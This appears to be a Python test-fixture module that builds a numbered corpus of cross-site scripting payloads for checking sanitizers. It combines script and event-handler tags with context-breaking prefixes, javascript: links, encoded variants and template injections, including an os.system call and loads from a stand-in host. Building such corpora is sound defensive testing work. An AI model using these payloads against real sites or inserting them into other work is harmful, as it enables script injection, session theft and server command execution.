"""Texts that would run, or ask another host, wherever a page took text for markup. Our own list.

Each calls `__x(n)` with its own number, or asks `evil.invalid/nz`. They are made by crossing what runs
with what it may have to break out of.
"""

from __future__ import annotations

from itertools import product

# What runs by itself once it is markup.
TAGS = (
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT >",
    "<script\n>@</script>",
    "<script/x>@</script>",
    "<img src=x onerror=@>",
    "<img/src=x/onerror=@>",
    '<img src="x" onerror="@">',
    "<img src='x' onerror='@'>",
    "<img src=x oNeRrOr=@>",
    "<img src=x onerror\n=\n@>",
    "<img src=x onerror=@ //",
    "<img src=//evil.invalid/#>",
    "<image src=x onerror=@>",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><script href=data:,@ />",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x>",
    "<svg><image href=x onerror=@>",
    "<svg><style><img src=x onerror=@></style></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><use href=//evil.invalid/#>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<math><mi><mglyph><style><!--</style><img src=x onerror=@>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<iframe onload=@>",
    "<iframe src=javascript:parent.@>",
    '<iframe srcdoc="<script>parent.@</script>">',
    "<iframe srcdoc='&lt;img src=x onerror=parent.@&gt;'>",
    "<iframe src='data:text/html,<script>parent.@</script>'>",
    "<iframe src=//evil.invalid/#>",
    "<object data=javascript:@>",
    "<object data=//evil.invalid/#>",
    "<embed src=javascript:@>",
    "<embed src=//evil.invalid/#>",
    "<video src=x onerror=@>",
    "<video><source onerror=@ src=x></video>",
    "<video poster=//evil.invalid/#>",
    "<audio src=x onerror=@>",
    "<input autofocus onfocus=@>",
    "<textarea autofocus onfocus=@>",
    "<select autofocus onfocus=@>",
    "<details open ontoggle=@>x",
    "<marquee onstart=@>x",
    "<link rel=stylesheet href=//evil.invalid/#>",
    "<link rel=preload as=script href=//evil.invalid/#>",
    "<link rel=stylesheet href=x onerror=@>",
    "<style>@import '//evil.invalid/#';</style>",
    "<style>body{background:url(//evil.invalid/#)}</style>",
    "<style onload=@></style>",
    "<style>@keyframes k{}*{animation:k 1s}</style><p onanimationstart=@>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/#'>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<base href=//evil.invalid/#/>",
    "<form action=//evil.invalid/#><button autofocus onfocus=this.form.submit()>",
    "<p style=background:url(//evil.invalid/#)>x",
    "<div style=animation:k onanimationend=@ tabindex=1 autofocus onfocus=@>x",
    "<b contenteditable autofocus onfocus=@>x",
    "<template><img src=x onerror=@></template><img src=x onerror=@>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>",
    "<frameset onload=@>",
    "<table background=//evil.invalid/#><td>x",
    "<script type=module>@</script>",
    "<script src=data:,@></script>",
    "<script src=//evil.invalid/#></script>",
    "<script>eval('@')</script>",
    "<isindex type=image src=x onerror=@><img src=x onerror=@>",
    "<x contenteditable onfocus=@ autofocus tabindex=1>x",
)  # fmt: skip

# What a text may stand in, and how it would get out.
BREAKS = (
    '"', "'", '">', "'>", "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>",
    "</script>", "</noscript>", "</select>", "</svg>", "</template>", "</td></tr></table>",
    "*/", "\\\">", "\\'>", "\u2028", "<!--><", "<![CDATA[", "<?", "<%", "</",
)  # fmt: skip
AFTER_A_BREAK = ("<img src=x onerror=@>", "<svg onload=@>")

# Attributes and scripts taken over without a tag.
TAKEN_OVER = (
    '" autofocus onfocus=@ x="',
    "' autofocus onfocus=@ x='",
    " autofocus onfocus=@ x=",
    '" onmouseover=@ style="position:fixed;inset:0',
    '";@;//',
    "';@;//",
    "\\';@;//",
    '\\";@;//',
    "</script><script>@</script>",
    "${@}",
    "`;@;//",
    '"}};@;//',
    "\u2028@\u2029",
    "});@;({",
)

# Links: run when somebody follows them.
LINKS = (
    "javascript:@", "JaVaScRiPt:@", " javascript:@", "java\tscript:@", "java\nscript:@",
    "\x01javascript:@", "javascript://x%0a@", "&#106;avascript:@", "javascript&colon;@",
    "data:text/html,<script>opener.@</script>", "vbscript:@", "//evil.invalid/#",
    "<a href=javascript:@>x</a>", '[x](javascript:@)', "![x](//evil.invalid/#)",
    "<javascript:@>", "<a href='java&#10;script:@'>x</a>", "<a href=//evil.invalid/# ping=//evil.invalid/#>x</a>",
)  # fmt: skip

# Text that a second pass, or a template, would turn into one of the above.
TWICE = (
    "&lt;img src=x onerror=@&gt;",
    "&#60;img src=x onerror=@&#62;",
    "&#x3c;img src=x onerror=@&#x3e;",
    "&amp;lt;img src=x onerror=@&amp;gt;",
    "\\u003cimg src=x onerror=@\\u003e",
    "\\x3cimg src=x onerror=@\\x3e",
    "%3Cimg src=x onerror=@%3E",
    "\uff1cimg src=x onerror=@\uff1e",
    "\u02c2img src=x onerror=@\u02c3",
    "<\u200bimg src=x onerror=@>",
    "\u202e<img src=x onerror=@>",
    "{{ '<img src=x onerror=@>' | safe }}",
    "{% raw %}<img src=x onerror=@>{% endraw %}",
    "{{ cycler.__init__.__globals__.os.system('x') }}<img src=x onerror=@>",
    "{{constructor.constructor('@')()}}",
    "%s%(x)s{0}{x}<img src=x onerror=@>",
    "$\\href{javascript:@}{x}$",
    "$$\\unicode{<img src=x onerror=@>}$$",
    "**<img src=x onerror=@>**",
    '=HYPERLINK("//evil.invalid/#","<img src=x onerror=@>")',
    "@SUM(1)<img src=x onerror=@>",
    '{"text/html":"<img src=x onerror=@>"}',
    '</script><script type="application/vnd.jupyter.widget-state+json">{"@":1}</script><img src=x onerror=@>',
    "a,b\n<img src=x onerror=@>",
    'a";"b\t<img src=x onerror=@>',
    "<<img src=x onerror=@>",
    "<scr<script>ipt>@</scr</script>ipt><img src=x onerror=@>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each with its number."""
    broken = ("".join(pair) for pair in product(BREAKS, AFTER_A_BREAK))
    texts = dict.fromkeys((*TAGS, *broken, *TAKEN_OVER, *LINKS, *TWICE))
    return [numbered(text, number) for number, text in enumerate(texts)]


def numbered(text: str, number: int) -> str:
    """A text that tells its number when it runs."""
    kept = text.replace("@import", "\0import").replace("@keyframes", "\0keyframes")
    kept = kept.replace("@SUM", "\0SUM").replace("@", f"__x({number})")
    return kept.replace("\0", "@").replace("invalid/#", f"invalid/{number}z")
